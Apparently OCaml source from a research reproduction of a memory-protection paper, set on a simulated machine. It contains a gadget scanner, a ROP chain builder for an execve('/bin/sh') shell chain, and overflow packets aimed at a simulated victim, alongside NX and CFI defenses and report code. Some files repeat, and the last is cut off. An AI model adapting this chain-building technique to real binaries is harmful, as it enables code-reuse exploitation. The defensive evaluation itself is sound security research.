        | Isa.Insn.Call _ ->
          walk (insn :: acc) (n + 1) (p + Isa.Insn.size insn))
  in
  walk [] 0 pos

let scan_segment ?max_insns ~base bytes =
  let out = ref [] in
  for pos = String.length bytes - 1 downto 0 do
    match at ?max_insns ~base bytes pos with
    | Some g -> out := g :: !out
    | None -> ()
  done;
  !out

let executable_kind = function
  | Kernel.Image.Code | Kernel.Image.Lib | Kernel.Image.Mixed -> true
  | Kernel.Image.Rodata | Kernel.Image.Data -> false

let scan_image ?max_insns (img : Kernel.Image.t) =
  List.concat_map
    (fun (s : Kernel.Image.segment) ->
      if executable_kind s.kind then scan_segment ?max_insns ~base:s.base s.bytes else [])
    img.segments

(* --- semantic lookups the chain builder uses --------------------------- *)

(* Smallest-address match keeps the builder deterministic. *)
let find gadgets p = List.find_opt p gadgets

let pop_ret gadgets reg =
  find gadgets (fun g ->
      match g.insns with [ Isa.Insn.Pop r; Isa.Insn.Ret ] -> r = reg | _ -> false)

let syscall_ret gadgets =
  find gadgets (fun g ->
      match g.insns with [ Isa.Insn.Int 0x80; Isa.Insn.Ret ] -> true | _ -> false)

let ret_only gadgets =
  find gadgets (fun g -> match g.insns with [ Isa.Insn.Ret ] -> true | _ -> false)
