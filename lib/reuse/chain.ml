(* Deterministic ROP-chain builder.

   A chain is the sequence of 32-bit words the attacker lays over the
   victim's stack: gadget addresses interleaved with the immediate values
   the gadgets pop. The builder searches the scanned gadget index
   *semantically* (a [pop reg; ret] per register to load, an
   [int 0x80; ret] to enter the kernel) and fails loudly when the image
   does not carry what the chain needs — a chain is a proof about a
   concrete image, not a template.

   Every word of the serialized chain is data: it is written by an
   ordinary [read] into an ordinary buffer and consumed by [ret] popping
   it into eip. Nothing is ever fetched from attacker-written memory, so
   a virtual Harvard split (and NX) has no event to trap on. The
   byte-level constraint is inherited from the victims' gets()-style bug:
   no word may contain 0x0A, or the copy loop would truncate the chain. *)

exception No_gadget of string

type slot =
  | Gadget of Gadget.t
  | Value of int  (** immediate popped (or consumed as a fake frame slot) *)

type t = { slots : slot list }

let slot_word = function Gadget g -> g.Gadget.addr | Value v -> v

let words c = List.map slot_word c.slots

let to_bytes c =
  String.concat "" (List.map (fun s -> Attack.Shellcode.word32 (slot_word s)) c.slots)

let contains_newline c = Attack.Shellcode.contains_newline (to_bytes c)

let pp ppf c =
  List.iter
    (fun s ->
      match s with
      | Gadget g -> Fmt.pf ppf "%08x  ->  %a@." (slot_word s) Gadget.pp g
      | Value v -> Fmt.pf ppf "%08x  (value)@." v)
    c.slots

let require what = function Some g -> g | None -> raise (No_gadget what)

(* execve("/bin/sh"); exit(0) — the classic chain, from gadgets alone:

     pop ebx; ret   <- address of "/bin/sh" (already in the image's data)
     pop eax; ret   <- 11 (execve)
     int 0x80; ret
     pop eax; ret   <- 1 (exit)
     pop ebx; ret   <- 0
     int 0x80; ret

   The kernel's execve reads its path through ebx from ordinary data; the
   trailing exit keeps the compromised process from crashing — the same
   graceful-exit discipline the paper's forensic payloads use. *)
let execve_exit ~gadgets ~sh_addr =
  let pop_ebx = require "pop ebx; ret" (Gadget.pop_ret gadgets Isa.Reg.EBX) in
  let pop_eax = require "pop eax; ret" (Gadget.pop_ret gadgets Isa.Reg.EAX) in
  let syscall = require "int 0x80; ret" (Gadget.syscall_ret gadgets) in
  let c =
    {
      slots =
        [
          Gadget pop_ebx;
          Value sh_addr;
          Gadget pop_eax;
          Value 11;
          Gadget syscall;
          Gadget pop_eax;
          Value 1;
          Gadget pop_ebx;
          Value 0;
          Gadget syscall;
        ];
    }
  in
  if contains_newline c then
    invalid_arg "Chain.execve_exit: chain contains 0x0a (would truncate the copy)";
  c

(* Return-into-libtext: the degenerate one-slot chain — the corrupted
   return address simply names existing privileged code. *)
let ret_into ~target = { slots = [ Value target ] }
