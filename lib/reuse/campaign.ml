(* The code-reuse campaign: retarget the victim's copy bug into attacks
   that execute no injected byte, then cross them (plus the classic
   injection representatives) against every defense configuration.

   This is the experimental half of the paper's §7 concession: split
   memory polices where instruction bytes *come from*, so an attack that
   only redirects control into bytes already on code pages sails through.
   The matrix makes the boundary exact — and shows the recommended
   composition (split memory for injection, CFI for reuse) closing it. *)

type attack = Rop_chain | Ret2libtext | Fptr_clobber

let attacks = [ Rop_chain; Ret2libtext; Fptr_clobber ]

let attack_name = function
  | Rop_chain -> "rop-chain"
  | Ret2libtext -> "ret2libtext"
  | Fptr_clobber -> "fptr-clobber"

let attack_descr = function
  | Rop_chain -> "gadget chain: execve(\"/bin/sh\") from unintended gadgets"
  | Ret2libtext -> "return into the image's dead maintenance routine"
  | Fptr_clobber -> "function-pointer clobber aimed at existing code"

(* --- exploit construction ------------------------------------------------ *)

let scan ?max_insns () = Gadget.scan_image ?max_insns (Victim.image ())

let chain_for img =
  Chain.execve_exit ~gadgets:(Gadget.scan_image img)
    ~sh_addr:(Kernel.Image.label img "sh")

(* The full byte string fed to the victim's stdin: selector, then the
   overflow packet. Everything before the trailing newline must be
   0x0A-free or the copy loop truncates it — asserted here, guaranteed
   by the victim's 16-byte-aligned gadget/maintenance addresses. *)
let packet img attack =
  let w = Attack.Shellcode.word32 in
  let saved_ebp = w 0x42424242 in
  let body =
    match attack with
    | Rop_chain -> Guest.filler 64 ^ saved_ebp ^ Chain.to_bytes (chain_for img)
    | Ret2libtext ->
      Guest.filler 64 ^ saved_ebp ^ w (Kernel.Image.label img "maintenance")
    | Fptr_clobber -> Guest.filler 64 ^ w (Kernel.Image.label img "maintenance")
  in
  assert (not (Attack.Shellcode.contains_newline body));
  let sel =
    match attack with
    | Rop_chain | Ret2libtext -> Victim.sel_stack
    | Fptr_clobber -> Victim.sel_fptr
  in
  sel ^ body ^ "\n"

(* One attack against one defense. The whole exploit is data fed up
   front: no leak step is needed because nothing about the text layout is
   randomized, the same property real ROP relies on absent ASLR. *)
let run ?defense attack =
  let img = Victim.image () in
  let s = Attack.Runner.start ?defense img in
  Attack.Runner.send s (packet img attack);
  ignore (Attack.Runner.step s);
  Attack.Runner.outcome s

(* A benign session down either victim path — the false-positive check
   for CFI: legitimate calls, returns and the data-pointer dispatch must
   all pass the monitor. *)
let benign ?defense sel =
  let s = Attack.Runner.start ?defense (Victim.image ()) in
  Attack.Runner.send s (sel ^ "short and harmless\n");
  ignore (Attack.Runner.step s);
  (Attack.Runner.outcome s, Kernel.Os.read_stdout s.k s.victim)

(* --- the defense x attack matrix ----------------------------------------- *)

(* Injection representatives: one per hijack class (return address,
   function pointer, longjmp buffer), shellcode on the stack — the rows
   split memory was built for. *)
let injection_reps =
  [
    ("inject-ret", Attack.Wilander.Ret_addr);
    ("inject-fptr", Attack.Wilander.Func_ptr_var);
    ("inject-longjmp", Attack.Wilander.Longjmp_var);
  ]

type row = Injection of Attack.Wilander.technique | Reuse of attack

let rows =
  List.map (fun (n, t) -> (n, Injection t)) injection_reps
  @ List.map (fun a -> (attack_name a, Reuse a)) attacks

let defenses =
  [
    ("unprotected", Defense.unprotected);
    ("nx", Defense.nx);
    ("split", Defense.split_standalone);
    ("cfi", Defense.cfi);
    ("split+cfi", Defense.split_plus_cfi);
  ]

let has_cfi = function Defense.Cfi_over _ -> true | _ -> false

(* What the paper's threat model predicts for each cell. *)
let expected_escape ~defense ~row =
  match row with
  | Injection _ -> defense = Defense.unprotected
  | Reuse _ -> not (has_cfi defense)

type cell = {
  defense : string;
  attack : string;
  expected : bool;  (** expected to escape *)
  result : (Attack.Runner.outcome, string) result;
}

let cell_ok c =
  match c.result with
  | Error _ -> false
  | Ok o ->
    if c.expected then Attack.Runner.is_attack_success o
    else (not (Attack.Runner.is_attack_success o)) && Attack.Runner.is_foiled o

let run_cell (defense, row) =
  match row with
  | Injection t -> Attack.Wilander.run ~defense t Attack.Wilander.Stack
  | Reuse a -> run ~defense a

(* Every cell is an independent machine, so the grid fans out across the
   fleet; submission order keeps the table bit-identical for any [jobs]. *)
let matrix ?jobs () =
  let cells =
    List.concat_map
      (fun (an, row) -> List.map (fun (dn, d) -> (an, row, dn, d)) defenses)
      rows
  in
  let results =
    Fleet.map ?jobs
      ~label:(fun (an, _, dn, _) -> Fmt.str "%s/%s" an dn)
      (fun (_, row, _, defense) -> run_cell (defense, row))
      cells
  in
  List.map2
    (fun (an, row, dn, d) r ->
      {
        defense = dn;
        attack = an;
        expected = expected_escape ~defense:d ~row;
        result = (match r with Ok o -> Ok o | Error e -> Error e.Fleet.reason);
      })
    cells results

let check cells = List.for_all cell_ok cells

let cell_text c =
  let t =
    match c.result with
    | Ok o -> Attack.Runner.outcome_name o
    | Error e -> "error: " ^ e
  in
  if cell_ok c then t else t ^ " **UNEXPECTED**"

let render ppf cells =
  let col_w =
    List.fold_left (fun w c -> max w (String.length (cell_text c))) 11 cells + 2
  in
  let attack_w =
    List.fold_left (fun w c -> max w (String.length c.attack)) 6 cells + 2
  in
  let pad w s = s ^ String.make (max 0 (w - String.length s)) ' ' in
  Fmt.pf ppf "%s" (pad attack_w "attack");
  List.iter (fun (dn, _) -> Fmt.pf ppf "%s" (pad col_w dn)) defenses;
  Fmt.pf ppf "@.";
  List.iter
    (fun (an, _) ->
      let row_cells = List.filter (fun c -> c.attack = an) cells in
      Fmt.pf ppf "%s" (pad attack_w an);
      List.iter
        (fun (dn, _) ->
          match List.find_opt (fun c -> c.defense = dn) row_cells with
          | Some c -> Fmt.pf ppf "%s" (pad col_w (cell_text c))
          | None -> Fmt.pf ppf "%s" (pad col_w "-"))
        defenses;
      Fmt.pf ppf "@.")
    rows;
  let bad = List.filter (fun c -> not (cell_ok c)) cells in
  if bad = [] then
    Fmt.pf ppf "%d cells, all as the threat model predicts@." (List.length cells)
  else Fmt.pf ppf "%d of %d cells UNEXPECTED@." (List.length bad) (List.length cells)
