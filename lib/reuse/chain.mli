(** Deterministic ROP / return-into-libtext chain builder over a scanned
    gadget index. Chains are pure data laid over the victim's stack; no
    attacker-written byte is ever fetched as code. *)

exception No_gadget of string
(** The image does not carry a gadget the chain needs. *)

type slot = Gadget of Gadget.t | Value of int

type t = { slots : slot list }

val words : t -> int list
(** The 32-bit stack words, bottom (first consumed) first. *)

val to_bytes : t -> string
(** Little-endian serialization — what the exploit writes over the
    stack. *)

val contains_newline : t -> bool

val pp : Format.formatter -> t -> unit

val execve_exit : gadgets:Gadget.t list -> sh_addr:int -> t
(** execve("/bin/sh") then exit(0), built from [pop ebx]/[pop eax]/
    [int 0x80] ret-gadgets. [sh_addr] is the address of a "/bin/sh"
    string already present in the image.
    @raise No_gadget when a required gadget is missing.
    @raise Invalid_argument when the chain would contain 0x0a. *)

val ret_into : target:int -> t
(** The one-slot return-into-existing-code chain. *)
