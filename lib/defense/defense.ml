module Nx_bit = Nx_bit
module Cfi = Cfi

type t =
  | Unprotected
  | Unprotected_soft_tlb
  | Nx
  | Split of {
      policy : Split_memory.Policy.t;
      response : Split_memory.Response.t;
      nx : bool;
      mechanism : Split_memory.mechanism;
    }
  | Cfi_over of { underlying : t; shadow_stack : bool; coarse : bool }

let unprotected = Unprotected
let unprotected_soft_tlb = Unprotected_soft_tlb
let nx = Nx

let split_standalone =
  Split { policy = All_pages; response = Break; nx = false; mechanism = Tlb_desync }

let split_mixed_plus_nx =
  Split { policy = Mixed_only; response = Break; nx = true; mechanism = Tlb_desync }

let split_fraction pct =
  Split { policy = Fraction pct; response = Break; nx = true; mechanism = Tlb_desync }

let split_soft_tlb =
  Split { policy = All_pages; response = Break; nx = false; mechanism = Soft_tlb }

let split_dual_cr3 =
  Split { policy = All_pages; response = Break; nx = false; mechanism = Dual_cr3 }

let split_with ?(policy = Split_memory.Policy.All_pages) ?(response = Split_memory.Response.Break)
    ?(nx = false) ?(mechanism = Split_memory.Tlb_desync) () =
  Split { policy; response; nx; mechanism }

let cfi_over ?(shadow_stack = true) ?(coarse = true) underlying =
  Cfi_over { underlying; shadow_stack; coarse }

let cfi = cfi_over Unprotected
let split_plus_cfi = cfi_over split_standalone

let rec to_protection = function
  | Unprotected | Unprotected_soft_tlb -> Kernel.Protection.none
  | Nx -> Nx_bit.protection ()
  | Split { policy; response; nx; mechanism } ->
    Split_memory.protection ~policy ~response ~nx ~mechanism ()
  | Cfi_over { underlying; shadow_stack; coarse } ->
    Cfi.protection ~shadow_stack ~coarse ~over:(to_protection underlying) ()

(* The hardware the defense assumes: §4.7's port runs on a machine whose
   TLB misses trap to the OS instead of a hardware walker. CFI is a pure
   kernel monitor and inherits whatever its underlying defense needs. *)
let rec tlb_fill = function
  | Split { mechanism = Split_memory.Soft_tlb; _ } | Unprotected_soft_tlb ->
    Hw.Mmu.Software_fill
  | Unprotected | Nx | Split _ -> Hw.Mmu.Hardware_walk
  | Cfi_over { underlying; _ } -> tlb_fill underlying

let name t =
  match t with
  | Unprotected_soft_tlb -> "unprotected(soft-tlb)"
  | Unprotected | Nx | Split _ | Cfi_over _ -> (to_protection t).Kernel.Protection.name
