(** The protection configurations compared throughout the evaluation. *)

module Nx_bit = Nx_bit
module Cfi = Cfi

type t =
  | Unprotected
  | Unprotected_soft_tlb
      (** stock kernel on a software-managed-TLB machine (ablation baseline) *)
  | Nx  (** execute-disable bit alone *)
  | Split of {
      policy : Split_memory.Policy.t;
      response : Split_memory.Response.t;
      nx : bool;
      mechanism : Split_memory.mechanism;
    }
  | Cfi_over of { underlying : t; shadow_stack : bool; coarse : bool }
      (** shadow stack + coarse CFI layered over any other defense *)

val unprotected : t
val unprotected_soft_tlb : t
val nx : t

val split_standalone : t
(** Split every page, break on detection — the paper's stand-alone mode,
    used for the performance figures. *)

val split_mixed_plus_nx : t
(** NX for normal pages, splitting only for mixed pages (§4.2.1). *)

val split_fraction : int -> t
(** Split the given percentage of pages, NX for the rest (Fig. 9). *)

val split_soft_tlb : t
(** The §4.7 port: split memory on a software-managed-TLB machine. *)

val split_dual_cr3 : t
(** The §3.3.1 hardware modification: dual pagetable registers. *)

val split_with :
  ?policy:Split_memory.Policy.t ->
  ?response:Split_memory.Response.t ->
  ?nx:bool ->
  ?mechanism:Split_memory.mechanism ->
  unit ->
  t

val cfi_over : ?shadow_stack:bool -> ?coarse:bool -> t -> t
(** Layer shadow stack + coarse CFI over another defense; the underlying
    defense keeps all its paging behavior and the CFI monitor takes the
    control-transfer slot. *)

val cfi : t
(** Shadow stack + coarse CFI alone (over the stock kernel). *)

val split_plus_cfi : t
(** The composition the evaluation recommends: split memory against code
    injection plus CFI against code reuse. *)

val to_protection : t -> Kernel.Protection.t

val tlb_fill : t -> Hw.Mmu.fill_mode
(** The TLB-fill hardware this defense assumes. *)

val name : t -> string
