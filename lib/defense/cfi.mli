(** Shadow stack + coarse-grained CFI — the defense class that covers the
    code-reuse attacks split memory concedes in the paper's §7.

    The monitor hooks the CPU's control transfers via
    [Kernel.Protection.ctrl_monitor] and enforces, per protected process:
    ret targets must be on the kernel-private shadow stack (pop-until-match
    tolerates longjmp) or, lacking history, call-preceded in the pristine
    text; indirect calls must target function entries (entry point,
    direct-call targets, address-taken constants); indirect jumps must
    target text at a call-preceded address or a function entry. Denials log
    [Injection_detected] and surface as #GP. *)

val call_preceded : Kernel.Proc.t -> int -> bool
(** Is the address immediately preceded by a call instruction in the
    static text of the process's executable regions? (Exposed for tests
    and the reuse-attack planner.) *)

val protection :
  ?shadow_stack:bool ->
  ?coarse:bool ->
  ?over:Kernel.Protection.t ->
  unit ->
  Kernel.Protection.t
(** A CFI protection, optionally layered over another protection [over]
    (default: the stock kernel): all of [over]'s paging hooks are kept and
    its [ctrl_monitor] slot is filled with this monitor, so split memory's
    injection defense and the CFI reuse defense compose. *)
