(* Shadow stack + coarse-grained control-flow integrity.

   Split memory (and NX) police where instruction bytes may *come from*;
   they are blind to an attacker who never injects a byte and instead
   redirects control into code the image already carries (ROP,
   return-into-libtext — the paper's §7 limitation). This module polices
   where control may *go*, in the style of the coarse-grained CFI monitors
   built on existing hardware events (kBouncer, ROPecker, ROPocop):

   - Shadow stack: every call records its return address in a
     kernel-private per-process stack; every ret must target an address the
     shadow stack holds. Popping until a match tolerates longjmp unwinding
     several frames at once; an empty shadow stack (a fresh fork child
     whose call history predates monitoring) proves nothing and falls back
     to the coarse checks.

   - Coarse checks, derived from the pristine image bytes backing the
     process's executable regions (never from runtime memory, which the
     attacker controls): a ret target must be *call-preceded*; an indirect
     call must target a function entry (the entry point, a direct-call
     target, or an address-taken constant found in text immediates or data
     words); an indirect jump must target an executable region at a
     call-preceded address (which is exactly what a longjmp resumption
     looks like) or a function entry.

   All state lives in closures created per [protection] call, i.e. per
   machine, so concurrent fleet jobs never share a shadow stack. The
   monitor plugs into [Kernel.Protection.ctrl_monitor]; a denial surfaces
   as #GP after an [Injection_detected] event, so attack runners classify
   it as foiled-by-defense, symmetric with split memory's detections. *)

module IntSet = Set.Make (Int)

(* --- static text inspection -------------------------------------------- *)

(* The pristine byte backing an executable address, or [None] when the
   address is not inside any executable file-backed region. The zero
   padding between a segment's bytes and its region end reads as 0. *)
let static_byte (proc : Kernel.Proc.t) addr =
  let asp = proc.aspace in
  match Kernel.Aspace.find_region asp (addr / Kernel.Aspace.page_size asp) with
  | Some { Kernel.Aspace.execable = true; source = Image_bytes { base; bytes }; _ } ->
    let off = addr - base in
    if off >= 0 && off < String.length bytes then Some (Char.code bytes.[off]) else Some 0
  | Some _ | None -> None

let in_text (proc : Kernel.Proc.t) addr =
  let asp = proc.aspace in
  match Kernel.Aspace.find_region asp (addr / Kernel.Aspace.page_size asp) with
  | Some r -> r.Kernel.Aspace.execable
  | None -> false

(* Is [target] immediately preceded by a call instruction in the static
   text? Both call encodings are checked: [call rel32] is 5 bytes with
   opcode 0x30, [call reg] is 2 bytes with opcode 0x31 and a valid
   register field. *)
let call_preceded proc target =
  static_byte proc (target - 5) = Some 0x30
  ||
  match (static_byte proc (target - 2), static_byte proc (target - 1)) with
  | Some 0x31, Some r when r < 8 -> true
  | _ -> false

(* The set of legitimate indirect-transfer entry points of a process:
   every direct-call target, and every address-taken text address (a
   [mov reg, imm] immediate in text, or a 32-bit word anywhere in a
   file-backed data segment, that points into text). Computed once per
   process from the region map and memoized by pid. *)
let entry_points (proc : Kernel.Proc.t) =
  let asp = proc.aspace in
  let acc = ref IntSet.empty in
  let add a = if in_text proc a then acc := IntSet.add a !acc in
  List.iter
    (fun (r : Kernel.Aspace.region) ->
      match r.source with
      | Kernel.Aspace.Zero -> ()
      | Kernel.Aspace.Image_bytes { base; bytes } ->
        if r.execable then
          (* linear sweep; decode errors advance one byte, so unknown
             regions cannot derail the scan *)
          List.iter
            (fun (off, insn) ->
              match insn with
              | Ok (Isa.Insn.Call (Isa.Insn.Rel d)) -> add (base + off + 5 + d)
              | Ok (Isa.Insn.Mov_ri (_, imm)) -> add imm
              | Ok _ | Error _ -> ())
            (Isa.Disasm.region bytes ~pos:0 ~len:(String.length bytes))
        else
          for off = 0 to String.length bytes - 4 do
            let b i = Char.code bytes.[off + i] in
            add (b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24))
          done)
    (Kernel.Aspace.regions asp);
  !acc

(* --- the monitor -------------------------------------------------------- *)

let protection ?(shadow_stack = true) ?(coarse = true)
    ?(over = Kernel.Protection.none) () : Kernel.Protection.t =
  (* per-pid shadow stacks and entry-point caches; per machine by
     construction (one [protection] value per [Os.create]) *)
  let shadows : (int, int list) Hashtbl.t = Hashtbl.create 8 in
  let entries : (int, IntSet.t) Hashtbl.t = Hashtbl.create 8 in
  let entry_set (proc : Kernel.Proc.t) =
    match Hashtbl.find_opt entries proc.pid with
    | Some s -> s
    | None ->
      let s = entry_points proc in
      Hashtbl.replace entries proc.pid s;
      s
  in
  let deny (ctx : Kernel.Protection.ctx) (proc : Kernel.Proc.t) ~site ~mode =
    proc.detections <- proc.detections + 1;
    Kernel.Event_log.add ctx.log
      (Kernel.Event_log.Injection_detected { pid = proc.pid; eip = site; mode });
    false
  in
  let is_entry proc target = in_text proc target && IntSet.mem target (entry_set proc) in
  let monitor ctx (proc : Kernel.Proc.t) ~kind ~site ~target ~ret =
    match (kind : Hw.Cpu.ctrl_kind) with
    | Call_direct ->
      if shadow_stack then
        Hashtbl.replace shadows proc.pid
          (ret :: Option.value ~default:[] (Hashtbl.find_opt shadows proc.pid));
      true
    | Call_indirect ->
      if shadow_stack then
        Hashtbl.replace shadows proc.pid
          (ret :: Option.value ~default:[] (Hashtbl.find_opt shadows proc.pid));
      if coarse && not (is_entry proc target) then
        deny ctx proc ~site ~mode:"cfi-call"
      else true
    | Return -> (
      let stack = Option.value ~default:[] (Hashtbl.find_opt shadows proc.pid) in
      let coarse_ok () =
        if not coarse then true
        else if in_text proc target && call_preceded proc target then true
        else deny ctx proc ~site ~mode:"cfi-ret"
      in
      if not shadow_stack then coarse_ok ()
      else
        (* pop until the target matches: longjmp legitimately discards any
           number of frames, but a genuine return address is always still
           *somewhere* on the shadow stack *)
        match
          List.fold_left
            (fun found r ->
              match found with Some _ -> found | None -> if r = target then Some r else None)
            None stack
        with
        | Some _ ->
          let rec drop = function
            | r :: rest -> if r = target then rest else drop rest
            | [] -> []
          in
          Hashtbl.replace shadows proc.pid (drop stack);
          true
        | None ->
          if stack = [] then
            (* no recorded history (fork child, restored snapshot): the
               shadow stack proves nothing either way *)
            coarse_ok ()
          else
            (* denial mode deliberately matches the coarse fallback's:
               shadow-stack state is kernel-private and not checkpointed,
               so a restored run re-detects the same violation through the
               empty-stack fallback — the event log must render
               identically for replay equivalence *)
            deny ctx proc ~site ~mode:"cfi-ret")
    | Jump_indirect ->
      if not coarse then true
      else if in_text proc target && (call_preceded proc target || is_entry proc target)
      then true
      else deny ctx proc ~site ~mode:"cfi-jmp"
  in
  let name =
    let base =
      match (shadow_stack, coarse) with
      | true, true -> "shadow-cfi"
      | true, false -> "shadow-stack"
      | false, true -> "coarse-cfi"
      | false, false -> "cfi-off"
    in
    if over.Kernel.Protection.name = "unprotected" then base
    else base ^ "+" ^ over.Kernel.Protection.name
  in
  { over with name; ctrl_monitor = Some monitor }
