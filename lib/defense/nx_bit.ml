(* The execute-disable-bit baseline (Intel XD / AMD NX, paper §2): data
   pages are marked non-executable, code pages read-only. It needs hardware
   support, cannot protect mixed code+data pages, and can be bypassed by
   gadget code that conjures fresh executable memory. *)

let protection () : Kernel.Protection.t =
  let on_page_mapped _ctx _proc (region : Kernel.Aspace.region) (pte : Kernel.Pte.t) =
    (* Mixed pages must stay executable — exactly the gap the paper
       motivates split memory with. *)
    if not region.execable then pte.nx <- true
  in
  let on_protection_fault (ctx : Kernel.Protection.ctx) (proc : Kernel.Proc.t)
      (f : Hw.Mmu.fault) =
    (if f.access = Hw.Mmu.Fetch then
       let vpn = f.addr / Hw.Phys.page_size ctx.phys in
       match Kernel.Aspace.pte proc.aspace vpn with
       | Some pte when pte.nx ->
         proc.detections <- proc.detections + 1;
         Kernel.Event_log.add ctx.log
           (Kernel.Event_log.Injection_detected { pid = proc.pid; eip = f.addr; mode = "nx" })
       | Some _ | None -> ());
    Kernel.Protection.Not_ours
  in
  let on_tlb_fill (ctx : Kernel.Protection.ctx) (proc : Kernel.Proc.t) (f : Hw.Mmu.fault)
      (pte : Kernel.Pte.t) =
    if f.access = Hw.Mmu.Fetch && pte.nx then begin
      proc.detections <- proc.detections + 1;
      Kernel.Event_log.add ctx.log
        (Kernel.Event_log.Injection_detected { pid = proc.pid; eip = f.addr; mode = "nx" });
      Kernel.Protection.Deny_fill
    end
    else Kernel.Protection.Default_fill
  in
  {
    name = "nx-bit";
    nx_hardware = true;
    dual_pagetables = false;
    on_page_mapped;
    on_protection_fault;
    on_debug_trap = (fun _ _ -> false);
    on_invalid_opcode = (fun _ _ ~eip:_ ~opcode:_ -> Kernel.Protection.Benign);
    on_tlb_fill;
    ctrl_monitor = None;
  }
