(** Plain-text rendering of the reproduced tables and figures. *)

val table : title:string -> header:string list -> string list list -> string
(** ASCII table with box-drawing rules; column widths fit the content. *)

val bars : ?width:int -> title:string -> (string * float) list -> string
(** Horizontal bar chart for normalized-performance figures (values are
    clamped to \[0, 1.2\] for display). *)

val dist : ?width:int -> title:string -> (string * int) list -> string
(** Count distribution (histogram buckets, label tallies); bars are scaled
    to the largest count. *)

val percent : float -> string
