(** Plain-text rendering of the reproduced tables and figures. *)

val table : title:string -> header:string list -> string list list -> string
(** ASCII table with box-drawing rules; column widths fit the content. *)

val bars : ?width:int -> title:string -> (string * float) list -> string
(** Horizontal bar chart for normalized-performance figures (values are
    clamped to \[0, 1.2\] for display). *)

val dist : ?width:int -> title:string -> (string * int) list -> string
(** Count distribution (histogram buckets, label tallies); bars are scaled
    to the largest count. *)

val percent : float -> string
(** ["93%"]-style rendering; a non-finite value (0/0 upstream) renders as
    ["-"] rather than ["nan%"]. *)

val percent_opt : float option -> string
(** {!percent}, with [None] (no traffic at all) rendered as ["-"]. *)

val csv : header:string list -> string list list -> string
(** Comma-separated rendering of the same row shape {!table} takes; cells
    containing commas, quotes or newlines are quoted. *)

val heatmap : title:string -> xlabel:string -> rows:(string * int array) list -> string
(** ASCII intensity grid: one line per [(label, cells)] row, one glyph per
    cell, ramp [. : - = + * # @] scaled to the global peak count. *)
