(* Plain-text rendering for the reproduced tables and figures. *)

let hr widths =
  "+" ^ String.concat "+" (List.map (fun w -> String.make (w + 2) '-') widths) ^ "+"

let pad width s =
  let len = String.length s in
  if len >= width then s else s ^ String.make (width - len) ' '

let render_row widths cells =
  "| " ^ String.concat " | " (List.map2 pad widths cells) ^ " |"

let table ~title ~header rows =
  let all = header :: rows in
  let cols = List.length header in
  let widths =
    List.init cols (fun i ->
        List.fold_left (fun acc row -> max acc (String.length (List.nth row i))) 0 all)
  in
  let buf = Buffer.create 256 in
  Buffer.add_string buf (title ^ "\n");
  Buffer.add_string buf (hr widths ^ "\n");
  Buffer.add_string buf (render_row widths header ^ "\n");
  Buffer.add_string buf (hr widths ^ "\n");
  List.iter (fun row -> Buffer.add_string buf (render_row widths row ^ "\n")) rows;
  Buffer.add_string buf (hr widths ^ "\n");
  Buffer.contents buf

(* A horizontal bar chart for "normalized performance" figures, with the
   paper's reference value alongside when given. *)
let bars ?(width = 40) ~title points =
  let buf = Buffer.create 256 in
  Buffer.add_string buf (title ^ "\n");
  let label_w =
    List.fold_left (fun acc (label, _) -> max acc (String.length label)) 0 points
  in
  List.iter
    (fun (label, v) ->
      let v = if Float.is_nan v then 0.0 else v in
      let n = int_of_float (Float.min 1.2 (Float.max 0.0 v) *. float_of_int width) in
      Buffer.add_string buf
        (Fmt.str "  %s  %s %.2f\n" (pad label_w label) (String.make n '#') v))
    points;
  Buffer.contents buf

(* A count distribution (histogram buckets, label tallies): bars scaled to
   the largest count so the shape survives any magnitude. *)
let dist ?(width = 40) ~title cells =
  let buf = Buffer.create 256 in
  Buffer.add_string buf (title ^ "\n");
  let label_w =
    List.fold_left (fun acc (label, _) -> max acc (String.length label)) 0 cells
  in
  let peak = List.fold_left (fun acc (_, n) -> max acc n) 0 cells in
  List.iter
    (fun (label, n) ->
      let bar = if peak <= 0 then 0 else n * width / peak in
      Buffer.add_string buf
        (Fmt.str "  %s  %s %d\n" (pad label_w label) (String.make bar '#') n))
    cells;
  Buffer.contents buf

let percent v = Fmt.str "%.0f%%" (v *. 100.)
