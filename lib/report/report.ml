(* Plain-text rendering for the reproduced tables and figures. *)

let hr widths =
  "+" ^ String.concat "+" (List.map (fun w -> String.make (w + 2) '-') widths) ^ "+"

let pad width s =
  let len = String.length s in
  if len >= width then s else s ^ String.make (width - len) ' '

let render_row widths cells =
  "| " ^ String.concat " | " (List.map2 pad widths cells) ^ " |"

let table ~title ~header rows =
  let all = header :: rows in
  let cols = List.length header in
  let widths =
    List.init cols (fun i ->
        List.fold_left (fun acc row -> max acc (String.length (List.nth row i))) 0 all)
  in
  let buf = Buffer.create 256 in
  Buffer.add_string buf (title ^ "\n");
  Buffer.add_string buf (hr widths ^ "\n");
  Buffer.add_string buf (render_row widths header ^ "\n");
  Buffer.add_string buf (hr widths ^ "\n");
  List.iter (fun row -> Buffer.add_string buf (render_row widths row ^ "\n")) rows;
  Buffer.add_string buf (hr widths ^ "\n");
  Buffer.contents buf

(* A horizontal bar chart for "normalized performance" figures, with the
   paper's reference value alongside when given. *)
let bars ?(width = 40) ~title points =
  let buf = Buffer.create 256 in
  Buffer.add_string buf (title ^ "\n");
  let label_w =
    List.fold_left (fun acc (label, _) -> max acc (String.length label)) 0 points
  in
  List.iter
    (fun (label, v) ->
      let v = if Float.is_nan v then 0.0 else v in
      let n = int_of_float (Float.min 1.2 (Float.max 0.0 v) *. float_of_int width) in
      Buffer.add_string buf
        (Fmt.str "  %s  %s %.2f\n" (pad label_w label) (String.make n '#') v))
    points;
  Buffer.contents buf

(* A count distribution (histogram buckets, label tallies): bars scaled to
   the largest count so the shape survives any magnitude. *)
let dist ?(width = 40) ~title cells =
  let buf = Buffer.create 256 in
  Buffer.add_string buf (title ^ "\n");
  let label_w =
    List.fold_left (fun acc (label, _) -> max acc (String.length label)) 0 cells
  in
  let peak = List.fold_left (fun acc (_, n) -> max acc n) 0 cells in
  List.iter
    (fun (label, n) ->
      let bar = if peak <= 0 then 0 else n * width / peak in
      Buffer.add_string buf
        (Fmt.str "  %s  %s %d\n" (pad label_w label) (String.make bar '#') n))
    cells;
  Buffer.contents buf

(* Percentages come from ratios whose denominator can be zero; never let a
   NaN/inf reach a report — render the "no data" dash instead. *)
let percent v = if not (Float.is_finite v) then "-" else Fmt.str "%.0f%%" (v *. 100.)

let percent_opt = function None -> "-" | Some v -> percent v

(* CSV rendering (RFC-4180-ish): quote any cell containing a comma, quote
   or newline; double embedded quotes. *)
let csv_cell s =
  if String.exists (fun c -> c = ',' || c = '"' || c = '\n') s then
